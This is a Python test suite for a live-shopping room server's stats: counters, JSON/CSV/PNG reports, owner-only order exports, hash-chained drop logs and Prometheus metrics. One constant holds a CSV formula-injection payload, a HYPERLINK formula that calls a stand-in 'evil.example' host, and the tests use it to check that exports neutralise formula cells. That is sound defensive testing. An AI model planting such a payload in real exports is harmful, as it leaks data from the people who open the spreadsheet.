"""The event numbers (issue 13): counters kept by the scripts as things
happen, the report (JSON, CSV, chart), the room's order list (owner-only
emails, filters, cursor, CSV escaping), `stats:updated` to a real host
client once per room, and a drop's hash-chained log. Real server, real
Socket.IO clients, real Redis, localstripe through the official SDK."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import shutil
import time
from asyncio.subprocess import PIPE, STDOUT
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest

from commerce import keys as shop_keys
from rooms import keys as room_keys
from rooms.stats import hold_lease
from server.appkeys import ROOMS, SCHEDULER
from server.config import Settings
from server.numbers.cells import cell
from server.numbers.live import STATS
from server.shop.resources import SHOP, STRIPE_EMBED
from tests.harness import Client, Harness, start_server, stop_server
from tests.harness import test_settings as make_settings
from tests.mail_helpers import SmtpServer, ask, code_in, exchange
from tests.test_wave1_upgrade import IDS as WAVE1
from tests.test_wave1_upgrade import copy_fixture

ROOM = "numbers"
SHIP: dict[str, Any] = {
    "shipping": {
        "name": "Ada Buyer",
        "line1": "1 Rue de la Paix",
        "city": "Paris",
        "postal_code": "75002",
        "country": "FR",
    }
}
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak","click")'


@pytest.fixture
async def smtp() -> AsyncIterator[SmtpServer]:
    server = SmtpServer()
    await server.start()
    yield server
    await server.stop()


@pytest.fixture
def settings(tmp_path: Path, redis_url: str, smtp: SmtpServer) -> Settings:
    return make_settings(tmp_path / "data", redis_url, smtp_url=smtp.url)


async def _card(server: Harness, number: str = "4242424242424242") -> str:
    embedded = server.app[STRIPE_EMBED]
    assert embedded is not None
    keys = embedded.keys
    data = {"key": keys.publishable_key, "card[number]": number, "card[exp_month]": "12"}
    data.update({"card[exp_year]": "2034", "card[cvc]": "123"})
    async with (
        aiohttp.ClientSession() as http,
        http.post(keys.api_base + "/v1/tokens", data=data) as resp,
    ):
        body = await resp.json()
    return str(body["card"]["id"])


async def _setup(
    server: Harness,
    stock: int = 2,
    room: str = ROOM,
    *,
    new_room: bool = True,
    product: bool = True,
    owner: str | None = None,
) -> str:
    """A room (the admin's) with a drop of a tee; `owner`, a creator's account
    token, makes the tee theirs (a creator's room drops only its owner's)."""
    if new_room:
        await server.create_room(id=room, title="Friday drop")
    if product:
        tee = {"id": f"tee-{room}", "title": "Tee", "price": 2500, "currency": "EUR"}
        tee["kind"] = "physical"
        if owner is None:
            await server.admin_post("/api/v1/products", tee)
        else:
            status, made = await server.request("POST", "/api/v1/products", json=tee, token=owner)
            assert status == 201, made
    mod = await server.connect(room, "mod", "moderator")
    now = time.time()
    payload: dict[str, Any] = {"product_id": f"tee-{room}", "starts_at": now - 5}
    payload.update({"ends_at": now + 600, "stock": stock, "per_buyer_limit": 1})
    answer = await mod.call("drop:schedule", payload)
    assert answer["ok"], answer
    return str(answer["drop"]["id"])


async def _buy(
    server: Harness, identity: str, drop_id: str, *, room: str = ROOM, name: str | None = None
) -> tuple[Client, str]:
    buyer = await server.connect(room, identity, name=name)
    assert (await buyer.call("cart:add", {"drop_id": drop_id, "qty": 1}))["ok"]
    card = await _card(server)
    email = f"{identity}@example.com"
    answer = await buyer.call("checkout:start", {**SHIP, "payment_method": card, "email": email})
    assert answer["ok"] and answer["status"] == "succeeded", answer
    await buyer.wait_for("order:updated", lambda d: d["order"]["status"] == "paid", 10)
    return buyer, str(answer["order_id"])


async def _get(server: Harness, path: str, **kw: Any) -> tuple[int, Any, str]:
    headers = {}
    bearer = server.settings.admin_key if kw.pop("admin", False) else kw.pop("token", None)
    if bearer:
        headers["Authorization"] = f"Bearer {bearer}"
    async with (
        aiohttp.ClientSession() as http,
        http.get(server.url + path, headers=headers) as resp,
    ):
        body = await resp.read()
        kind = resp.headers.get("Content-Type", "")
        parsed = await resp.json(content_type=None) if "json" in kind else body
        return resp.status, parsed, kind


async def test_a_sale_moves_the_counters_and_the_report(server: Harness) -> None:
    drop_id = await _setup(server, stock=2)
    host = server.token(ROOM, "host", "host")
    watchers = [await server.connect(ROOM, f"l{i}") for i in range(3)]
    await watchers[0].close()  # left: the peak stays 3 + buyers, unique counts them
    _, first = await _buy(server, "ann", drop_id)
    await _buy(server, "bob", drop_id)  # the drop sells out
    # A third listener's order fails (cancelled while waiting for a card).
    late = await server.connect(ROOM, "cid")
    drop_two = await _setup(server, stock=3, new_room=False, product=False)
    assert (await late.call("cart:add", {"drop_id": drop_two}))["ok"]
    started = await late.call("checkout:start", {**SHIP, "email": "cid@example.com"})
    assert started["status"] == "requires_payment_method", started
    assert (await late.call("order:cancel", {"order_id": started["order_id"]}))["order"]
    # One paid order is refunded.
    shop = server.app[SHOP]
    assert await shop.settlement.refund(ROOM, first, time.time())

    status, rep, kind = await _get(server, f"/api/v1/rooms/{ROOM}/report", token=host)
    assert status == 200 and "json" in kind, rep
    assert rep["orders"] == {"paid": 2, "failed": 1, "refunded": 1}
    assert rep["revenue"] == {"EUR": 2500}  # two paid, one given back
    assert rep["refund_rate"] == 0.5
    assert rep["listeners"]["unique"] == 6  # l0..l2, ann, bob, cid (staff are not listeners)
    assert rep["listeners"]["peak"] == 5 and rep["listeners"]["now"] == 5
    assert rep["conversion"]["overall"] == round(2 / 6, 4)
    minutes = rep["conversion"]["per_minute"]
    assert sum(m["buyers"] for m in minutes) == 2
    assert all(m["listeners"] >= m["buyers"] for m in minutes)
    assert sum(j["n"] for j in rep["joins_per_minute"]) == 7  # mod, l0..l2, ann, bob, cid
    by_id = {d["id"]: d for d in rep["drops"]}
    sold_out = by_id[drop_id]
    assert (sold_out["stock"], sold_out["sold"], sold_out["sell_through"]) == (2, 2, 1.0)
    assert sold_out["sold_out_after_s"] is not None and sold_out["sold_out_after_s"] >= 5
    assert by_id[drop_two]["sold_out_after_s"] is None and by_id[drop_two]["sold"] == 0
    assert set(rep["delivery_ms"]) == {"p50", "p95", "p99"}
    status, text, kind = await _get(server, f"/api/v1/rooms/{ROOM}/report?format=csv", token=host)
    assert status == 200 and kind.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text.decode())))
    assert rows[0] == ["section", "key", "value"]
    assert ["orders", "paid", "2"] in rows and ["revenue", "EUR", "2500"] in rows
    assert [f"drop:{drop_id}", "sell_through", "1.0"] in rows
    for body in (str(rep), text.decode()):  # no buyer data in the report
        assert "@example.com" not in body and "ann" not in body
    # Counted where decided: the counters are there without any order scan.
    raw = await server.app_rooms_redis().hgetall(shop_keys.stats_orders(ROOM))
    assert raw["paid"] == "2" and raw["revenue:EUR"] == "5000" and raw["refunds:EUR"] == "2500"


async def test_the_report_chart_is_a_png(server: Harness) -> None:
    drop_id = await _setup(server)
    await _buy(server, "ann", drop_id)
    host = server.token(ROOM, "host", "host")
    status, body, kind = await _get(server, f"/api/v1/rooms/{ROOM}/report.png", token=host)
    assert status == 200 and kind == "image/png"
    assert body[:8] == b"\x89PNG\r\n\x1a\n"
    from PIL import Image

    image = Image.open(io.BytesIO(body))
    assert image.size == (1200, 630)
    # The bar of the minute's one order is drawn in the orders' colour.
    colours = {c for _, c in image.getcolors(1200 * 630) or []}
    assert (234, 88, 12) in colours


async def test_who_may_read_the_report(server: Harness) -> None:
    await _setup(server)
    path = f"/api/v1/rooms/{ROOM}/report"
    assert (await _get(server, path, admin=True))[0] == 200
    assert (await _get(server, path, token=server.token(ROOM, "h", "host")))[0] == 200
    assert (await _get(server, path, token=server.token(ROOM, "m", "moderator")))[0] == 403
    assert (await _get(server, path, token=server.token(ROOM, "x", "listener")))[0] == 403
    assert (await _get(server, path))[0] == 401
    other = server.token("elsewhere", "h", "host")
    assert (await _get(server, path, token=other))[0] in (401, 403)
    assert (await _get(server, "/api/v1/rooms/nope/report", admin=True))[0] == 404


async def test_the_order_list(server: Harness) -> None:
    drop_id = await _setup(server, stock=5)
    await _buy(server, "ann", drop_id)
    await _buy(server, "eve", drop_id, name=EVIL_NAME)
    waiting = await server.connect(ROOM, "cid")
    assert (await waiting.call("cart:add", {"drop_id": drop_id}))["ok"]
    pending = await waiting.call("checkout:start", {**SHIP, "email": "cid@example.com"})
    assert pending["ok"]
    path = f"/api/v1/rooms/{ROOM}/orders"
    status, body, _ = await _get(server, path, admin=True)
    assert status == 200
    orders = body["orders"]
    assert [o["buyer"]["identity"] for o in orders] == ["cid", "eve", "ann"]  # newest first
    assert orders[0]["status"] == "pending" and orders[2]["status"] == "paid"
    assert orders[2]["buyer"] == {"identity": "ann", "name": "ann", "email": "ann@example.com"}
    assert orders[2]["shipping"]["line1"] == "1 Rue de la Paix"
    # A moderator (and a host) sees the list without any email.
    for role in ("moderator", "host"):
        status, seen, _ = await _get(server, path, token=server.token(ROOM, role, role))
        assert status == 200 and len(seen["orders"]) == 3
        assert "@example.com" not in str(seen)
        assert seen["orders"][2]["buyer"] == {"identity": "ann", "name": "ann"}
    listener = server.token(ROOM, "zed", "listener")
    assert (await _get(server, path, token=listener))[0] == 403
    # Filters and pages.
    status, paid, _ = await _get(server, path + "?status=paid", admin=True)
    assert [o["buyer"]["identity"] for o in paid["orders"]] == ["eve", "ann"]
    status, bad, _ = await _get(server, path + "?status=shipped", admin=True)
    assert status == 400 and bad["error"]["code"] == "invalid"
    assert (await _get(server, path + "?limit=0", admin=True))[0] == 400
    assert (await _get(server, path + "?before=nonsense", admin=True))[0] == 400
    status, one, _ = await _get(server, path + "?limit=2", admin=True)
    assert [o["buyer"]["identity"] for o in one["orders"]] == ["cid", "eve"]
    status, rest, _ = await _get(server, path + f"?limit=2&before={one['next']}", admin=True)
    assert [o["buyer"]["identity"] for o in rest["orders"]] == ["ann"]
    # The CSV export: formula cells defused, emails to the owner only.
    status, text, kind = await _get(server, path + "?format=csv", admin=True)
    assert status == 200 and kind.startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(text.decode())))
    eve = next(r for r in rows if r["buyer_identity"] == "eve")
    assert eve["buyer_name"] == "'" + EVIL_NAME and eve["buyer_email"] == "eve@example.com"
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    mod = server.token(ROOM, "mod", "moderator")
    status, text, _ = await _get(server, path + "?format=csv", token=mod)
    assert "@example.com" not in text.decode() and "buyer_email" not in text.decode()


def test_formula_cells_get_a_quote() -> None:
    assert [cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", None, 3)] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        "",
        "3",
    ]


async def _sign_in(server: Harness, smtp: SmtpServer, address: str) -> str:
    before = len(smtp.inbox.messages)
    assert (await ask(server, address))[0] == 202
    mails = await smtp.inbox.wait_for(before + 1)
    status, body = await exchange(server, code_in(mails[-1]))
    assert status == 200, body
    return str(body["token"])


async def _creator(server: Harness, smtp: SmtpServer, address: str) -> str:
    before = len(smtp.inbox.messages)
    status, _ = await server.request(
        "POST", "/api/v1/creators", json={"email": address, "name": address[:3]}, admin=True
    )
    assert status == 200
    mails = await smtp.inbox.wait_for(before + 1)
    status, body = await exchange(server, code_in(mails[-1]))
    assert status == 200, body
    return str(body["token"])


async def test_a_creator_never_sees_another_creators_numbers(
    server: Harness, smtp: SmtpServer
) -> None:
    mia = await _creator(server, smtp, "mia@example.com")
    noa = await _creator(server, smtp, "noa@example.com")
    status, made = await server.request(
        "POST", "/api/v1/rooms", json={"id": "mias", "title": "Mia's"}, token=mia
    )
    assert status == 201, made
    drop_id = await _setup(server, room="mias", new_room=False, owner=mia)
    await _buy(server, "ann", drop_id, room="mias")
    for path in ("report", "report?format=csv", "report.png", "orders", "orders?format=csv"):
        assert (await _get(server, f"/api/v1/rooms/mias/{path}", token=noa))[0] == 403, path
        assert (await _get(server, f"/api/v1/rooms/mias/{path}", token=mia))[0] == 200, path
    status, mine, _ = await _get(server, "/api/v1/rooms/mias/orders", token=mia)
    assert mine["orders"][0]["buyer"]["email"] == "ann@example.com"  # the owner sees emails
    log = f"/api/v1/rooms/mias/drops/{drop_id}/log"
    assert (await _get(server, log, token=noa))[0] == 403
    assert (await _get(server, log, token=mia))[0] == 200


async def _go_live(server: Harness, room: str = ROOM) -> None:
    status, body = await server.request(
        "PATCH", f"/api/v1/rooms/{room}", json={"live": True}, admin=True
    )
    assert status == 200, body


async def test_staff_get_stats_updated_after_a_sale(server: Harness) -> None:
    drop_id = await _setup(server, stock=3)
    await _go_live(server)
    host = await server.connect(ROOM, "host", "host")
    listener = await server.connect(ROOM, "zed")
    # The numbers at once in the staff's snapshot, never in a listener's.
    assert host.received("room:state")[0]["stats"]["orders"]["paid"] == 0
    assert "stats" not in listener.received("room:state")[0]
    first = await host.wait_for("stats:updated", lambda d: d["listeners"]["now"] == 1, 6)
    assert first["orders"]["paid"] == 0 and first["listeners"]["now"] == 1
    assert set(first["audio"]) == {"listeners_connected", "packet_loss"}
    await _buy(server, "ann", drop_id)
    seen = await host.wait_for("stats:updated", lambda d: d["orders"]["paid"] == 1, timeout=6)
    assert seen["revenue"] == {"EUR": 2500}
    assert seen["drops"][0]["sold"] == 1 and seen["listeners"]["peak"] == 2
    assert "@example.com" not in str(seen)
    assert not listener.received("stats:updated")  # staff only


async def test_stats_are_computed_once_per_room_and_only_when_changed(server: Harness) -> None:
    await _setup(server)  # not live: the scheduled tick leaves the room alone
    store = server.app[ROOMS]
    publisher = server.app[STATS]
    # Another process holds the room's lease: this one computes nothing for it.
    await store.redis.delete(room_keys.stats_lease(ROOM))
    assert await hold_lease(store, ROOM, "another-process", 60)
    assert not await hold_lease(store, ROOM, publisher.token, 60)
    assert await hold_lease(store, ROOM, "another-process", 60)  # renewed
    # Unchanged numbers are not sent again.
    await store.redis.delete(room_keys.stats_sent(ROOM))
    now = time.time()
    assert await publisher.publish(ROOM, now)
    assert not await publisher.publish(ROOM, now + 0.5)


async def test_a_drops_log_with_its_hashes(server: Harness) -> None:
    drop_id = await _setup(server)
    _, order_id = await _buy(server, "ann", drop_id)
    host = server.token(ROOM, "host", "host")
    path = f"/api/v1/rooms/{ROOM}/drops/{drop_id}/log"
    status, body, _ = await _get(server, path, token=host)
    assert status == 200, body
    types = [e["type"] for e in body["entries"]]
    assert types[0] == "drop.scheduled" and "order.created" in types and "order.paid" in types
    assert all(len(e["hash"]) == 40 and len(e["prev"]) == 40 for e in body["entries"])
    assert body["verdict"]["ok"] and body["verdict"]["checked"] >= len(types)
    paid = next(e for e in body["entries"] if e["type"] == "order.paid")
    assert paid["data"]["order_id"] == order_id
    mod = server.token(ROOM, "mod", "moderator")
    assert (await _get(server, path, token=mod))[0] == 403
    assert (await _get(server, f"/api/v1/rooms/{ROOM}/drops/drop_nope/log", token=host))[0] == 404
    # An entry written around the chain breaks the verdict.
    await server.app_rooms_redis().xadd(
        room_keys.log(ROOM),
        {"type": "drop.live", "data": f'{{"drop_id":"{drop_id}"}}', "ts": "1"}
        | {"prev": "0" * 40, "hash": "f" * 40},
    )
    status, broken, _ = await _get(server, path, token=host)
    assert status == 200 and not broken["verdict"]["ok"] and broken["verdict"]["bad_entry"]


def _samples(text: str) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    from prometheus_client.parser import text_string_to_metric_families

    return {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for family in text_string_to_metric_families(text)
        for s in family.samples
    }


async def _scrape(server: Harness) -> str:
    async with aiohttp.ClientSession() as http, http.get(server.url + "/metrics") as resp:
        assert resp.status == 200
        return await resp.text()


async def test_business_metrics_for_prometheus(server: Harness) -> None:
    drop_id = await _setup(server, stock=1)
    await _go_live(server)
    await server.connect(ROOM, "zed")
    _, order_id = await _buy(server, "ann", drop_id)  # sells the drop out
    assert await server.app[SHOP].settlement.refund(ROOM, order_id, time.time())
    await server.app[STATS].tick(time.time())
    text = await _scrape(server)
    got = _samples(text)
    assert got[("droproom_orders_total", (("status", "paid"),))] == 1
    assert got[("droproom_orders_total", (("status", "refunded"),))] == 1
    assert got[("droproom_orders_total", (("status", "failed"),))] == 0
    assert got[("droproom_revenue_minor_total", (("currency", "EUR"),))] == 2500
    assert got[("droproom_refunds_minor_total", (("currency", "EUR"),))] == 2500
    assert got[("droproom_drop_sellouts_total", ())] == 1
    assert got[("droproom_listeners", ())] == 2  # zed and ann
    # Low cardinality: no room, drop, order or buyer id in any label.
    for name, labels in got:
        if name.startswith(("droproom_orders", "droproom_revenue", "droproom_refunds")):
            assert all(v not in (ROOM, drop_id, order_id, "ann") for _, v in labels)
    assert ROOM not in "".join(line for line in text.splitlines() if "droproom_orders" in line)
    promtool = shutil.which("promtool") or os.environ.get("PROMTOOL")
    if promtool:  # FIELD_NOTES: Debian's package holds it (apt-get download, dpkg -x)
        proc = await asyncio.create_subprocess_exec(
            promtool, "check", "metrics", stdin=PIPE, stdout=PIPE, stderr=STDOUT
        )
        said, _ = await proc.communicate(text.encode())
        assert proc.returncode == 0, said.decode()


async def test_audio_health_counts_whep_listeners(server: Harness) -> None:
    from server.numbers import audio
    from tests.media_helpers import AudioListener, TonePublisher, wait_connected
    from tests.test_media_http import Signal

    await server.create_room(id=ROOM, title="stage")
    whip = Signal(server, "whip", server.token(ROOM, "h", "host"), ROOM)
    pub = await TonePublisher.start(440, whip)
    await wait_connected(pub.pc)
    listener = await AudioListener.start(
        Signal(server, "whep", server.token(ROOM, "lenny", "listener"), ROOM)
    )
    try:
        await wait_connected(listener.pc)
        health: dict[str, Any] = {}
        async with asyncio.timeout(15):
            while health.get("packet_loss") is None:  # the first receiver report
                await asyncio.sleep(0.5)
                now = time.time()
                await audio.note(server.app, server.app[STATS].token, now)  # as its tick does
                health = await audio.health(server.app, ROOM, now)
        assert health["listeners_connected"] == 1
        assert 0.0 <= health["packet_loss"] < 0.05  # loopback loses (almost) nothing
        # A process's note goes stale when it stops noting (it ended).
        later = await audio.health(server.app, ROOM, time.time() + audio.FRESH_S + 1)
        assert later == {"listeners_connected": 0, "packet_loss": None}
    finally:
        await listener.close()
        await pub.close()


async def test_the_grafana_dashboard_uses_metrics_we_export(server: Harness) -> None:
    import json
    import re

    path = Path(__file__).parent.parent / "docs" / "grafana" / "droproom.json"
    dashboard = json.loads(path.read_text())
    exprs = [t["expr"] for p in dashboard["panels"] for t in p["targets"]]
    used = {m for e in exprs for m in re.findall(r"droproom_[a-z_]+", e)}
    from prometheus_client.parser import text_string_to_metric_families

    text = await _scrape(server)
    exported = {name for name, _ in _samples(text)}
    exported |= {  # a labelled counter has no sample before its first label
        f.name + "_total" for f in text_string_to_metric_families(text) if f.type == "counter"
    }
    assert used and used <= exported, used - exported


@pytest.fixture
async def upgraded(tmp_path: Path) -> AsyncIterator[Harness]:
    """Wave 1's data (tests/fixtures/wave1) in today's server, migrated."""
    data = copy_fixture(tmp_path)
    settings = make_settings(
        data,
        None,
        secret=(data / "secret").read_text().strip(),
        admin_key=(data / "admin_key").read_text().strip(),
    )
    harness = await start_server(settings)
    yield harness
    await stop_server(harness)


async def test_orders_from_before_are_listed_and_counted_after_the_upgrade(
    upgraded: Harness,
) -> None:
    room = WAVE1["room"]
    status, body, _ = await _get(upgraded, f"/api/v1/rooms/{room}/orders", admin=True)
    assert status == 200
    listed = {o["id"]: o["status"] for o in body["orders"]}
    assert listed == {WAVE1["paid"]["order_id"]: "paid", WAVE1["pending"]["order_id"]: "pending"}
    status, rep, _ = await _get(upgraded, f"/api/v1/rooms/{room}/report", admin=True)
    assert rep["orders"]["paid"] == 1
    assert sum(rep["revenue"].values()) == WAVE1["paid"]["amount"]


async def test_counters_count_each_transition_once_under_races(server: Harness) -> None:
    drop_id = await _setup(server, stock=3)
    _, order_id = await _buy(server, "ann", drop_id)
    shop, now = server.app[SHOP], time.time()
    order = await shop.orders.get(ROOM, order_id)
    # Five reports of the same payment and two refunds race: one of each counts.
    again = [shop.orders.settle(order, "paid", now, payment_ref="pi_x") for _ in range(5)]
    refunds = [shop.orders.settle(order, "refunded", now, refund_ref="re_x") for _ in range(2)]
    outcomes = [s.outcome for s in await asyncio.gather(*again, *refunds)]
    assert outcomes.count("refunded") == 1
    counted = await server.app_rooms_redis().hgetall(shop_keys.stats_orders(ROOM))
    assert (counted["paid"], counted["refunded"], counted["refunded_paid"]) == ("1", "1", "1")
    # Listeners arriving at once: the peak is exactly how many were there.
    crowd = await asyncio.gather(*(server.connect(ROOM, f"c{i}") for i in range(20)))
    status, rep, _ = await _get(server, f"/api/v1/rooms/{ROOM}/report", admin=True)
    assert status == 200
    assert rep["listeners"]["peak"] == rep["listeners"]["now"] == 21  # ann and the crowd
    assert rep["listeners"]["unique"] == 21 and len(crowd) == 20


async def test_two_processes_compute_a_rooms_numbers_once(server: Harness, tmp_path: Path) -> None:
    other = await start_server(
        make_settings(tmp_path / "other", server.settings.redis_url, smtp_url=None)
    )
    try:
        await _setup(server)
        await _go_live(server)
        both = (server.app[STATS], other.app[STATS])
        async with asyncio.timeout(10):
            while not any(ROOM in p.held for p in both):
                await asyncio.sleep(0.2)
        await asyncio.sleep(2 * 2.0 + 0.5)  # two more ticks of each
        assert [ROOM in p.held for p in both].count(True) == 1
        # Its holder stops ticking (a dead process): the other takes the room
        # over once the lease ends.
        holder, spare = both if ROOM in both[0].held else both[::-1]
        await holder.app[SCHEDULER].stop()
        async with asyncio.timeout(15):
            while ROOM not in spare.held:
                await asyncio.sleep(0.2)
    finally:
        await stop_server(other)


def test_the_chart_writes_money_in_its_currencys_units() -> None:
    from server.numbers.chart import money

    assert money(123456, "EUR") == "1,234.56 EUR"
    assert money(1500, "JPY") == "1,500 JPY"


async def test_the_report_carries_delivery_percentiles(server: Harness) -> None:
    from server.appkeys import DOWNLOADS

    await server.create_room(id=ROOM, title="Friday drop")
    path = f"/api/v1/rooms/{ROOM}/report"
    empty = (await _get(server, path, admin=True))[1]
    assert empty["delivery_ms"] == {"p50": None, "p95": None, "p99": None}
    for ms in range(1, 101):  # as issue 10's paid -> links timing records them
        await server.app[DOWNLOADS].record_delivery(ROOM, float(ms))
    rep = (await _get(server, path, admin=True))[1]
    assert rep["delivery_ms"] == {"p50": 50.0, "p95": 95.0, "p99": 99.0}
